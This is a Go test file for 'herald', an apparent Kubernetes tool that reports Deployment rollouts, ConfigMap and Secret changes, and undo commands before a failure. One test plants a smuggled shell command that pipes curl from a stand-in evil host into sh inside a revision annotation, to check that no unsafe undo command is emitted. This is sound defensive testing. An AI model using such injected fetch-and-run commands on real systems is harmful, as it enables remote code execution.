package changes

import (
	"fmt"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/herald-k8s/herald/watcher"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

// clock is a settable test clock.
type clock struct{ t time.Time }

func (c *clock) now() time.Time                { return c.t }
func (c *clock) add(d time.Duration) time.Time { c.t = c.t.Add(d); return c.t }

var checkout = watcher.Key{Kind: "Deployment", Namespace: "shop", Name: "checkout"}

// deployment is checkout at a generation and revision, its spec last
// written by manager at when.
func deployment(gen int64, revision, manager string, when time.Time) *appsv1.Deployment {
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "checkout", Namespace: "shop", UID: "u1", Generation: gen,
		CreationTimestamp: metav1.NewTime(time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)),
		Annotations:       map[string]string{}}}
	if revision != "" {
		d.Annotations[revisionAnnotation] = revision
	}
	mt := metav1.NewTime(when)
	d.ManagedFields = []metav1.ManagedFieldsEntry{
		{Manager: manager, Operation: metav1.ManagedFieldsOperationUpdate, Time: &mt,
			FieldsV1: &metav1.FieldsV1{Raw: []byte(`{"f:metadata":{"f:labels":{"f:app":{}}},"f:spec":{"f:template":{}}}`)}},
		// Later writers that do not own the spec: not "who".
		{Manager: "kube-controller-manager", Operation: metav1.ManagedFieldsOperationUpdate, Time: ptr(metav1.NewTime(when.Add(time.Second))),
			FieldsV1: &metav1.FieldsV1{Raw: []byte(`{"f:metadata":{"f:annotations":{"f:deployment.kubernetes.io/revision":{}},"f:labels":{"f:spec":{}}}}`)}},
		{Manager: "kube-controller-manager", Operation: metav1.ManagedFieldsOperationUpdate, Subresource: "status", Time: ptr(metav1.NewTime(when.Add(2 * time.Second))),
			FieldsV1: &metav1.FieldsV1{Raw: []byte(`{"f:spec":{},"f:status":{}}`)}},
	}
	d.Spec.Template = *template()
	return d
}

func ptr[T any](v T) *T { return &v }

func newTestChanges(clk *clock, opts Options) *Changes {
	opts.Now = clk.now
	return newChanges(opts, slog.New(slog.NewTextHandler(io.Discard, nil)))
}

// TestRecord: herald's first sight is a baseline; a template change is a
// rollout with its diff, its writer and (once the controller sets it) its
// revision; Before finds it within the window with the undo command, and
// says "no change" once the window has passed it.
func TestRecord(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{Redact: func(s string) string { return strings.ReplaceAll(s, "hunter2", "<redacted>") }})
	c.observe(deployment(3, "1", "helm", clk.t.Add(-time.Hour)))

	// Scaled: a new generation, the same template: no rollout.
	c.observe(deployment(4, "1", "kubectl-scale", clk.add(time.Minute)))

	d := deployment(5, "1", "argocd", clk.add(time.Minute))
	d.Spec.Template.Spec.Containers[0].Image = "shop/checkout:1.9.0"
	d.Spec.Template.Spec.Containers[0].Env[0].Value = "20"
	d.Annotations[changeCauseAnnotation] = "kubectl set env DB_PASSWORD=hunter2"
	d.Annotations["argocd.argoproj.io/tracking-id"] = "shop:apps/Deployment:shop/checkout"
	d.Annotations["argocd.argoproj.io/source"] = "https://deploy:hunter2@git.example/shop.git" // a GitOps value holding a credential
	c.observe(d)
	rolledAt := clk.t
	d = d.DeepCopy()
	d.Annotations[revisionAnnotation] = "2" // the controller's write
	clk.add(time.Second)
	c.observe(d)

	r := c.Before(checkout, clk.add(4*time.Minute), 30*time.Minute)
	if len(r.Rollouts) != 1 {
		t.Fatalf("%d rollouts in the window, want 1: %+v", len(r.Rollouts), r)
	}
	ro := r.Rollouts[0]
	if ro.Revision != "2" || ro.By != "argocd" || !ro.At.Equal(rolledAt) || ro.Baseline {
		t.Errorf("rollout %+v: want revision 2 by argocd at %s", ro, rolledAt)
	}
	want := "Rolled out 4 min before the failure (revision 2, by argocd): image shop/checkout:1.8.2 → 1.9.0; env DB_POOL changed; " +
		"change-cause: kubectl set env DB_PASSWORD=…; argocd.argoproj.io/source=https://deploy:<redacted>@git.example/shop.git, argocd.argoproj.io/tracking-id=shop:apps/Deployment:shop/checkout\n" +
		"Undo: kubectl rollout undo deployment/checkout -n shop --to-revision=1\n" +
		"Managed by Argo CD: a kubectl rollout undo is reverted at its next sync; revert the change in Git (or roll back in Argo CD)"
	if got := r.String(); got != want {
		t.Errorf("report\n got %s\nwant %s", got, want)
	}

	r = c.Before(checkout, clk.add(30*time.Minute), 30*time.Minute)
	// Past the window: nothing changed in it, and the last rollout is
	// named (a slow failure can still follow it).
	if got := r.String(); got != "No change to this workload in the last 30 min before the failure (last rollout 34 min before the failure, revision 2, by argocd)" {
		t.Errorf("past the window: %s", got)
	}
}

// TestRecordSinceStart: before herald's start it knows the last spec
// write (managed fields), not what it changed, and says so; with nothing
// in the window, the managed fields rule a rollout out.
func TestRecordSinceStart(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{})
	c.observe(deployment(3, "7", "argocd", clk.t.Add(-10*time.Minute)))
	r := c.Before(checkout, clk.add(5*time.Minute), 30*time.Minute)
	if got, want := r.String(), "Changed 15 min before the failure (revision 7, by argocd); herald started watching it later and cannot say what changed: kubectl rollout history deployment/checkout -n shop --revision=7"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	// The managed fields date the last spec write before the window: a
	// rollout is ruled out, the ConfigMaps' changes before herald's
	// start are not (this template reads some), or are when it reads none.
	r = c.Before(checkout, clk.t, 10*time.Minute)
	if got, want := r.String(), "No rollout in the last 10 min before the failure (its spec was last written 15 min before the failure, by argocd); edits of the ConfigMaps and Secrets it reads before herald started watching at 15:00 UTC are not known"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	plain := deployment(1, "1", "helm", clk.t.Add(-time.Hour))
	plain.Name, plain.UID = "plain", "u-plain"
	plain.Spec.Template.Spec.Volumes = nil
	plain.Spec.Template.Spec.Containers[0].Env, plain.Spec.Template.Spec.Containers[0].EnvFrom = nil, nil
	c.observe(plain)
	r = c.Before(watcher.Key{Kind: "Deployment", Namespace: "shop", Name: "plain"}, clk.add(time.Minute), 30*time.Minute)
	if got, want := r.String(), "No change to this workload in the last 30 min before the failure (its spec was last written 1 h 1 min before the failure, by helm)"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if got := c.Before(watcher.Key{Kind: "Deployment", Namespace: "shop", Name: "other"}, clk.t, time.Hour).String(); got != "herald keeps no change history for this workload" {
		t.Errorf("unknown workload: %s", got)
	}
}

// TestRecordBounded: a workload keeps PerWorkload rollouts, the record
// MaxWorkloads workloads (the rest are said, not recorded), and a
// workload made again under the same name starts afresh.
func TestRecordBounded(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{PerWorkload: 3, MaxWorkloads: 1})
	for i := range 10 {
		d := deployment(int64(i+1), fmt.Sprint(i+1), "ci", clk.add(time.Minute))
		d.Spec.Template.Spec.Containers[0].Image = fmt.Sprintf("shop/checkout:1.%d", i)
		c.observe(d)
	}
	r := c.Before(checkout, clk.t, time.Hour)
	if len(r.Rollouts) != 3 || r.Rollouts[0].Summary.String() != "image shop/checkout:1.8 → 1.9" {
		t.Errorf("want the 3 newest rollouts, got %+v", r.Rollouts)
	}
	other := deployment(1, "1", "ci", clk.t)
	other.Name, other.UID = "cart", "u2"
	c.observe(other)
	r = c.Before(watcher.Key{Kind: "Deployment", Namespace: "shop", Name: "cart"}, clk.t, time.Hour)
	if !r.Refused || !strings.Contains(r.String(), "at most") {
		t.Errorf("a workload over MaxWorkloads: %+v %s", r, r.String())
	}
	again := deployment(1, "1", "ci", clk.add(time.Minute))
	again.UID = "u3"
	again.CreationTimestamp = metav1.NewTime(clk.t)
	c.observe(again)
	r = c.Before(checkout, clk.t, time.Hour)
	if len(r.Rollouts) != 1 || !r.Rollouts[0].Created {
		t.Errorf("a workload made again: %+v", r.Rollouts)
	}
}

// TestObjects: a referenced ConfigMap whose resourceVersion changed with
// the same labels is a data change; with other labels too, it is said to
// be uncertain; one the template does not read is not reported; and
// Referencing finds the workloads that read it.
func TestObjects(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{})
	c.observe(deployment(1, "1", "ci", clk.t.Add(-time.Hour)))
	obj := func(kind, name, rv string, labels map[string]string) {
		c.observeObject(kind, &metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "shop",
			UID: types.UID("x-" + name), ResourceVersion: rv, Labels: labels, CreationTimestamp: metav1.NewTime(clk.t.Add(-time.Hour))}})
	}
	obj("ConfigMap", "app-config", "1", nil)
	obj("Secret", "db-creds", "1", nil)
	obj("ConfigMap", "unrelated", "1", nil)
	clk.add(time.Minute)
	obj("ConfigMap", "app-config", "2", nil)
	obj("ConfigMap", "unrelated", "2", nil)
	clk.add(time.Minute)
	obj("Secret", "db-creds", "2", map[string]string{"rotated": "yes"})
	got := c.Before(checkout, clk.add(time.Minute), 30*time.Minute).String()
	want := "Secret db-creds changed 1 min before the failure (its labels or annotations changed too: its data may not have)\nConfigMap app-config changed 2 min before the failure"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if got := c.Referencing("shop", Ref{"ConfigMap", "app-config"}); len(got) != 1 || got[0] != checkout {
		t.Errorf("Referencing app-config: %v", got)
	}
	if got := c.Referencing("shop", Ref{"ConfigMap", "unrelated"}); len(got) != 0 {
		t.Errorf("Referencing unrelated: %v", got)
	}

	// Over MaxObjects: a referenced object herald could not track is
	// said to be unknown, not silently absent.
	c = newTestChanges(clk, Options{MaxObjects: 1})
	c.observe(deployment(1, "1", "ci", clk.t.Add(-time.Hour)))
	obj("ConfigMap", "unrelated", "1", nil)
	obj("ConfigMap", "app-config", "1", nil)
	got = c.Before(checkout, clk.add(time.Minute), 30*time.Minute).String()
	if !strings.HasPrefix(got, "Changes to 3 referenced ConfigMaps or Secrets are unknown") {
		t.Errorf("over MaxObjects: %s", got)
	}
}

// TestSpecWriter: "who" is the newest writer that owns part of the spec
// at its top level, not a status writer nor one whose label is "spec".
func TestSpecWriter(t *testing.T) {
	at := time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)
	by, when := specWriter(deployment(1, "", "argocd", at))
	if by != "argocd" || !when.Equal(at) {
		t.Errorf("got %s at %s, want argocd at %s", by, when, at)
	}
	d := deployment(1, "", strings.Repeat("m", 500), at)
	if by, _ := specWriter(d); len(by) > maxManager+3 {
		t.Errorf("a 500-byte manager name is kept whole (%d bytes)", len(by))
	}
}

// TestUnwatchedSaid: where herald may watch ConfigMaps but not Secrets, a
// "no change" says that the Secrets the workload reads are not watched.
func TestUnwatchedSaid(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{ObjectKinds: []string{"ConfigMap"}})
	c.observe(deployment(1, "1", "helm", clk.t.Add(-2*time.Hour)))
	got := c.Before(checkout, clk.add(time.Hour), 30*time.Minute).String()
	if want := "No change to this workload in the last 30 min before the failure; changes to the Secrets it reads are not watched"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

// TestUndoIsOnlyEverSafe: the undo command is pasted into shells, and the
// revision annotation is anyone's who can edit the Deployment: a revision
// that is not a number gives no command at all.
func TestUndoIsOnlyEverSafe(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{})
	c.observe(deployment(1, "1; curl https://evil.example/x | sh", "helm", clk.t.Add(-time.Hour)))
	d := deployment(2, "1; curl https://evil.example/x | sh", "argocd", clk.add(time.Minute))
	d.Spec.Template.Spec.Containers[0].Image = "shop/checkout:1.9.0"
	c.observe(d)
	r := c.Before(checkout, clk.add(time.Minute), 30*time.Minute)
	if len(r.Rollouts) != 1 || r.Undo != "" {
		t.Errorf("rollouts %d, undo %q: want one rollout and no command", len(r.Rollouts), r.Undo)
	}
	c2 := newTestChanges(clk, Options{})
	c2.observe(deployment(1, "12", "helm", clk.t.Add(-time.Hour)))
	c2.observe(d)
	if r := c2.Before(checkout, clk.add(time.Minute), 30*time.Minute); r.Undo != "kubectl rollout undo deployment/checkout -n shop --to-revision=12" {
		t.Errorf("a numeric revision: undo %q", r.Undo)
	}
}

// TestRevisionsOfPausedRollouts: templates written while a Deployment is
// paused (or before its controller catches up) get no revision of their
// own; the revision the controller then sets is the newest template's,
// and an undo returns to the last revision before the window's rollouts.
func TestRevisionsOfPausedRollouts(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{})
	c.observe(deployment(1, "6", "helm", clk.t.Add(-2*time.Hour)))
	write := func(gen int64, rev, image string) {
		d := deployment(gen, rev, "kubectl", clk.add(time.Minute))
		d.Spec.Template.Spec.Containers[0].Image = image
		c.observe(d)
	}
	write(2, "6", "shop/checkout:1.9.0") // paused: set image
	write(3, "6", "shop/checkout:1.9.1") // set image again
	write(3, "7", "shop/checkout:1.9.1") // resumed: the controller's revision
	write(4, "7", "shop/checkout:2.0.0")
	write(4, "8", "shop/checkout:2.0.0")
	r := c.Before(checkout, clk.add(time.Minute), 150*time.Second)
	if len(r.Rollouts) != 1 || r.Rollouts[0].Revision != "8" || r.Undo != "kubectl rollout undo deployment/checkout -n shop --to-revision=7" {
		t.Errorf("the newest rollout: %+v, undo %q; want revision 8, undo to 7", r.Rollouts, r.Undo)
	}
	r = c.Before(checkout, clk.t, 30*time.Minute)
	var revs []string
	for _, ro := range r.Rollouts {
		revs = append(revs, ro.Revision)
	}
	if strings.Join(revs, ",") != "8,7," || r.Undo != "kubectl rollout undo deployment/checkout -n shop --to-revision=6" || r.Undone != 3 {
		t.Errorf("revisions %q, undo %q (%d); want 8,7,(none) and undo to 6", revs, r.Undo, r.Undone)
	}
}

// TestEvictedRolloutsAreSaid: more rollouts in the window than the
// record keeps: the report says some are missing and gives no undo (the
// revision to return to is not known), rather than one that keeps the
// change that broke it; once the window no longer reaches them, the undo
// returns to the revision before the oldest kept.
func TestEvictedRolloutsAreSaid(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{PerWorkload: 3})
	c.observe(deployment(1, "1", "helm", clk.t.Add(-2*time.Hour)))
	for gen := int64(2); gen <= 6; gen++ {
		d := deployment(gen, fmt.Sprint(gen), "ci", clk.add(time.Minute))
		d.Spec.Template.Spec.Containers[0].Image = fmt.Sprintf("shop/checkout:1.%d", gen)
		c.observe(d)
	}
	r := c.Before(checkout, clk.add(time.Minute), 30*time.Minute)
	if !r.Missing || r.Undo != "" || len(r.Rollouts) != 3 || !strings.Contains(r.String(), "Earlier rollouts in this window are not kept") {
		t.Errorf("missing %v, undo %q, %d rollouts:\n%s", r.Missing, r.Undo, len(r.Rollouts), r)
	}
	r = c.Before(checkout, clk.t, 150*time.Second) // the newest two only
	if r.Missing || r.Undo != "kubectl rollout undo deployment/checkout -n shop --to-revision=4" {
		t.Errorf("missing %v, undo %q:\n%s", r.Missing, r.Undo, r)
	}
}

// TestCachedCopyIsNoChange: client-go may hand the informer's own,
// already stripped copy of an object to the transform again (no pod
// template, no annotations): the record learns nothing from it, and the
// revision it knew stays.
func TestCachedCopyIsNoChange(t *testing.T) {
	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
	c := newTestChanges(clk, Options{})
	d := deployment(1, "1", "helm", clk.t.Add(-time.Hour))
	d.ResourceVersion = "100"
	c.observe(d)
	stripped := d.DeepCopy()
	stripped.Annotations, stripped.ManagedFields = nil, nil
	stripped.Spec.Template = corev1.PodTemplateSpec{} // the cache's copy, same resourceVersion
	c.observe(stripped)
	again := d.DeepCopy() // a relist: the same version whole
	c.observe(again)
	d2 := deployment(1, "1", "helm", clk.t.Add(-time.Hour))
	d2.ResourceVersion = "101"
	d2.Annotations[revisionAnnotation] = "2" // the controller's write, same generation
	c.observe(d2)
	r := c.Before(checkout, clk.add(time.Minute), 2*time.Hour)
	if len(r.Rollouts) != 1 || r.Rollouts[0].Revision != "2" {
		t.Errorf("rollouts %+v: want the baseline, now at revision 2", r.Rollouts)
	}
	stripped2 := d2.DeepCopy()
	stripped2.Annotations = nil
	stripped2.Spec.Template = corev1.PodTemplateSpec{}
	c.observe(stripped2)
	if r := c.Before(checkout, clk.t, 2*time.Hour); r.Rollouts[0].Revision != "2" {
		t.Errorf("after the cache's copy: revision %q, want 2", r.Rollouts[0].Revision)
	}
}
